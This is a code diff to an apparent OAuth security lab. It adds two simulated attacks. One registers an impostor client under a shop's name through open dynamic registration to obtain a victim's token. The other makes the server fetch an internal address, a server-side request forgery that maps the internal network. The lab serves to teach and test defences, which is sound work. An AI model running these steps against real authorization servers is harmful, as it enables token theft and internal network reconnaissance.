@@ -1,7 +1,7 @@
 // The attacks. Everything is done with what any page of any site may do: requests across origins, forms, frames and
 // popups; and with what arrives at the attacker's own site, which /caught tells.
 
-const { server, shop, app, appId, shopId, attackersId } = document.body.dataset;
+const { server, shop, app, appId, shopId, attackersId, door } = document.body.dataset;
 
 // The attacker's own (RFC 7636).
 const OWN = { verifier: 'a'.repeat(43), challenge: 'ZtNPunH49FD35FWYhT5Tv8I7vRKQJ8uxMaL0_9eHjNA' };
@@ -10,6 +10,8 @@ const SHARED_VERIFIER = 'one-for-all-customers-of-the-shop-0123456789';
 
 const SHOP_CALLBACK = `${shop}/shop-callback.html`;
 const CAUGHT = `${location.origin}/caught.html`;
+// The site of the attacker's app that takes the shop's name.
+const IMPOSTOR = new URL(shop.replace('//shop.', '//games.'));
 
 /** Near-misses of a registered redirect URI. Each leads to a page of the attacker's. */
 export const NEAR_MISSES = {
@@ -184,6 +186,35 @@ export const ATTACKS = {
       ? `The token that the shop sent to your server is good elsewhere. ${await open(token)} ${words}`
       : `Refused: the token is for your server alone. ${await open(token)} ${words}`];
   },
+
+  async named_by_host() {
+    const callback = `${IMPOSTOR.origin}/caught.html`;
+    const client = await register('The Victim\'s Shop', callback);
+    const visit = await Visit.to(authorize(client, callback, OWN.challenge));
+    const answer = await visit.brought((address) => address);
+    const isNamed = (await rules()).named_by_host;
+    if (!codeIn(answer)) {
+      return [false, isNamed
+        ? `The victim declined: the dialog named ${IMPOSTOR.host}, and not the shop.`
+        : 'The victim declined, though the dialog looked like the shop\'s.'];
+    }
+    const { access_token: token } = await redeem(codeIn(answer), client, callback, OWN.verifier);
+    const [isStolen, words] = token ? await callTool(token) : [false, 'The code bought no token.'];
+    return [isStolen, `${words} ${isNamed
+      ? `The dialog named ${IMPOSTOR.host}, and you authorized it all the same. This defence informs; the victim `
+        + 'decides.'
+      : 'The victim believes that the shop did it.'}`];
+  },
+
+  async checked_addresses() {
+    const visit = await Visit.to(authorize(door, CAUGHT, OWN.challenge));
+    // The attacker does not see the door. The lab looks for them.
+    const isOpen = await visit.caught('/door/open', (text) => text);
+    return isOpen
+      ? [true, 'The door is open: the server has asked for it, from its own network. In the popup it says what it '
+        + 'found there, which makes a map of the network, address by address.']
+      : [false, 'The door did not open. The popup had the reason.'];
+  },
 };
 
 /** A popup in which the victim follows a link of the attacker's, and what arrives at the attacker's site meanwhile. */
@@ -261,6 +292,20 @@ function authorize(client, redirect, challenge) {
     code_challenge_method: 'S256',
   });
   return `${server}/authorize?${query}`;
+}
+
+/** The identifier of a new client that calls itself `name`. Anyone may register one. */
+async function register(name, callback) {
+  const body = JSON.stringify({
+    client_name: name,
+    redirect_uris: [callback],
+    grant_types: ['authorization_code', 'refresh_token'],
+    token_endpoint_auth_method: 'none',
+  });
+  const headers = { 'Content-Type': 'application/json' };
+  const answer = await fetch(`${server}/register`, { method: 'POST', headers, body });
+  if (!answer.ok) throw new Error(`/register answers ${answer.status}; start the lab without --article`);
+  return (await answer.json()).client_id;
 }
 
 /** Redeems `code` as `client`. Any site may. */
